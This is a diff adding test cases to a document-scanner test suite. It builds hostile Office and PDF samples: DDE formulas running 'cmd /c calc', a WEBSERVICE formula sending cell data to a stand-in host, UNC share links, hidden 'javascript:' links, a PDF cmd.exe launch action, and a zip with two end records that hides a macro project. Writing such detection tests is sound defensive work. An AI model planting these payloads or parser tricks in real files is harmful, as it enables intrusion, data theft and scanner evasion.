@@ -11,6 +11,7 @@ Case = tuple[str, str, Callable[[], bytes], str]
 W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
 RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
 TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+OTHER = 'xmlns:x="urn:x"'  # another reader takes no notice of its attributes
 STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships"
 
 
@@ -106,6 +107,35 @@ def between() -> bytes:
 def twice() -> bytes:
     """An archive with two members whose names differ in capitals alone."""
     return archive({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": text(""), "WORD/Document.xml": text("")})
+
+
+def two_ends() -> bytes:
+    """An archive with macros inside a picture of a harmless one: its end leads to the one, the end for large archives to the other.
+
+    Python reads the harmless one; Info-ZIP and others, which look at the second end only where the first one says so, the other.
+    """
+    inner = bytearray(
+        archive({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": text(""), "word/vbaProject.bin": "x"})
+    )
+    raw = archive(
+        {"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": text(""), "word/media/a.dat": b"\x89PNG" + inner},
+        packing=zipfile.ZIP_STORED,
+    )
+    count, size, start = struct.unpack_from("<HII", raw, raw.rfind(b"PK\x05\x06") + 10)
+    inside = raw.find(b"\x89PNG") + 4
+    its_count, its_size, its_start = struct.unpack_from("<HII", inner, inner.rfind(b"PK\x05\x06") + 10)
+    place = its_start
+    for _ in range(its_count):
+        inner[place + 42 : place + 46] = struct.pack("<I", inside + struct.unpack_from("<I", inner, place + 42)[0])
+        place += 46 + sum(struct.unpack_from("<HHH", inner, place + 28))
+    body = raw[:inside] + inner + raw[inside + len(inner) : start + size]
+    large = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, size, start)
+    large += struct.pack("<4sLQL", b"PK\x06\x07", 0, len(body), 1)
+    return (
+        body
+        + large
+        + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, its_count, its_count, its_size, inside + its_start, 0)
+    )
 
 
 def listed(*objects: bytes, catalog: bytes = b"", page: bytes = b"") -> bytes:
@@ -239,6 +269,24 @@ OFFICE: tuple[Case, ...] = (
     ("a program asked by DDE", "xlsx", lambda: office("xl/workbook.xml", {"xl/links.xml": '<externalLink><ddeLink ddeService="cmd" ddeTopic="x"/></externalLink>'}), "flow.E047"),
     ("a connection that asks on opening", "xlsx", lambda: office("xl/workbook.xml", {"xl/connections.xml": '<connections><connection id="1" name="c" refreshOnLoad="1"/></connections>'}), "flow.E047"),
     ("sheets of old macros", "xlsx", lambda: office("xl/workbook.xml", {"xl/macrosheets/sheet1.xml": "<a/>"}), "flow.E045"),
+    ("a field that says two things", "docx", lambda: office(content=text(f'<w:fldSimple w:instr=" INCLUDEPICTURE &quot;https://x.example/a.png&quot; " {OTHER} x:instr=" PAGE "/>')), "flow.E042"),
+    ("a relationship that says two things", "docx", lambda: rels("attachedTemplate", "https://x.example/t.dotm", mode=f'TargetMode="External" {OTHER} x:TargetMode="Internal" x:Target="a.dotx"'), "flow.E042"),
+    ("a picture with two addresses", "docx", lambda: part("word/d.vml", f'<xml xmlns:v="v" {OTHER}><v:imagedata src="https://x.example/a.png" x:src="#a"/></xml>'), "flow.E042"),
+    ("a field whose first word another one ends", "docx", lambda: office(content=text(field("INC</w:instrText></w:r>" + field("QUOTE LUDEPICTURE") + '<w:r><w:instrText> "https://x.example/a.png"'))), "flow.E047"),
+    ("a field with a link that is no page behind a switch", "docx", lambda: office(content=text(field('HYPERLINK \\t "_blank" "javascript:x"'))), "flow.E047"),
+    ("a field with a link behind a space", "docx", lambda: office(content=text(field('HYPERLINK " javascript:x"'))), "flow.E047"),
+    ("a link with a tab in its scheme", "docx", lambda: rels("hyperlink", "java&#9;script:x"), "flow.E047"),
+    ("a program of a page beside the paper", "docx", lambda: rels("webextension", "webextension1.xml", mode="", base="http://schemas.microsoft.com/office/2011/relationships"), "flow.E045"),
+    ("a program called within a formula", "xlsx", lambda: sheet(cell("1+cmd|'/c calc'!A0")), "flow.E047"),
+    ("a program called by a name in quotes", "xlsx", lambda: sheet(cell("SUM('cmd'|'/c calc'!A0)")), "flow.E047"),
+    ("a page asked behind the name of a sheet", "xlsx", lambda: sheet(cell("'a&quot;'!A1&amp;WEBSERVICE(&quot;https://x.example/?&quot;&amp;A2)")), "flow.E047"),
+    ("a picture fetched from an address in a cell", "xlsx", lambda: sheet(cell("_xlfn.IMAGE(A2)")), "flow.E047"),
+    ("a link to a share by a formula", "xlsx", lambda: sheet(cell("HYPERLINK(&quot;\\\\10.0.0.1\\a&quot;)")), "flow.E047"),
+    ("a page asked by the formula of a table", "xlsx", lambda: office("xl/workbook.xml", {"xl/tables/table1.xml": "<calculatedColumnFormula>WEBSERVICE(A2)</calculatedColumnFormula>"}), "flow.E047"),
+    ("a question that is asked on opening", "xlsx", lambda: office("xl/workbook.xml", {"xl/queryTables/queryTable1.xml": '<queryTable name="q" connectionId="1" refreshOnLoad="1"/>'}), "flow.E047"),
+    ("a connection that asks every minute", "xlsx", lambda: office("xl/workbook.xml", {"xl/connections.xml": '<connections><connection id="1" name="c" interval="1"/></connections>'}), "flow.E047"),
+    ("a table of figures that asks elsewhere on opening", "xlsx", lambda: office("xl/workbook.xml", {"xl/pivotCache/a.xml": '<pivotCacheDefinition refreshOnLoad="1"><cacheSource type="external" connectionId="1"/></pivotCacheDefinition>'}), "flow.E047"),
+    ("an archive with two ends", "docx", two_ends, "flow.E043"),
     ("a member twice", "docx", overlapping, "flow.E042"),
     ("a member between that the list does not name", "docx", between, "flow.E042"),
     ("names that differ in capitals alone", "docx", twice, "flow.E044"),
@@ -254,6 +302,10 @@ PDF: tuple[Case, ...] = (
     ("a script in the tree of names", "pdf", lambda: listed(b"<< /Names [(a) 5 0 R] >>", b"<< /S /Trans >>", catalog=b"/Names << /JavaScript 4 0 R >>"), "flow.E040"),
     ("a script behind harmless actions", "pdf", lambda: listed(b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (x) >> >> >>", catalog=b"/OpenAction 4 0 R"), "flow.E040"),
     ("a page asked on opening", "pdf", lambda: listed(catalog=b"/OpenAction << /S /URI /URI (https://x.example/seen) >>"), "flow.E040"),
+    ("a page asked by an action that is also a place", "pdf", lambda: listed(catalog=b"/OpenAction << /S /URI /URI (https://x.example/seen) /D [3 0 R /Fit] >>"), "flow.E040"),
+    ("a link with a space before its scheme", "pdf", lambda: listed(page=b"/Annots [<< /Subtype /Link /A << /S /URI /URI ( java\\tscript:x) >> >>]"), "flow.E040"),
+    ("a body of three dimensions, which may run a script", "pdf", lambda: listed(page=b"/Annots [<< /Subtype /3D >>]"), "flow.E040"),
+    ("a link to another file on no table", "pdf", lambda: pdf(extra=b"9 0 obj\n<< /S /GoToR /F (\\\\\\\\10.0.0.1\\\\a.pdf) /D [0 /Fit] >>\nendobj\n"), "flow.E040"),
     ("a page asked behind a harmless action", "pdf", lambda: listed(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /URI /URI (https://x.example) >>] >>"), "flow.E040"),
     ("a page asked when a page is shown", "pdf", lambda: packed(_page_script), "flow.E040"),
     ("a program started by a link", "pdf", lambda: listed(page=b"/Annots [<< /Subtype /Link /A << /S /Launch /F (cmd.exe) >> >>]"), "flow.E040"),
